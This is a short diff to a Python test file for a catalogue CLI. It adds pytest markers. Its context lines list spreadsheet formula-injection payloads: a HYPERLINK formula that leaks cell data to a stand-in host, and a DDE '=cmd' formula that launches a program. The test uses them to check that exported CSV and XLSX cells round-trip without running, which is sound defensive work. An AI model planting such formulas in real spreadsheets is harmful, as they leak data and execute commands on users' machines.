@@ -26,6 +26,8 @@ from indicode.catalogue.records import LearnedLink
 from indicode.catalogue.writes import record_decisions
 from indicode.cli import app
 
+pytestmark = pytest.mark.usefixtures("shared_vector_cache")  # its commands build Linkers of their own
+
 runner = CliRunner()
 FORMULAS = ['=HYPERLINK("http://x.example/?leak="&A1,"y")', "=1+1", "+1+1", "-2+3", "@SUM(A1:A2)",
             "=cmd|' /C calc'!A0", "\t=1+1", "'quoted"]
@@ -460,6 +462,7 @@ from hypothesis import strategies as st  # noqa: E402
 RISKY_TEXT = st.text(alphabet=st.sampled_from(list("=+-@'\t\r\n ,\"A1中文%|!()") + ["\x00", "\x07"]), max_size=12)
 
 
+@pytest.mark.slow  # 150 generated tables, each written as CSV and XLSX and read back: about 2 s
 @settings(max_examples=150, deadline=None)
 @given(st.lists(st.lists(RISKY_TEXT, min_size=2, max_size=2), min_size=1, max_size=6))
 def test_any_text_round_trips_and_never_runs(tmp_path_factory, cells):
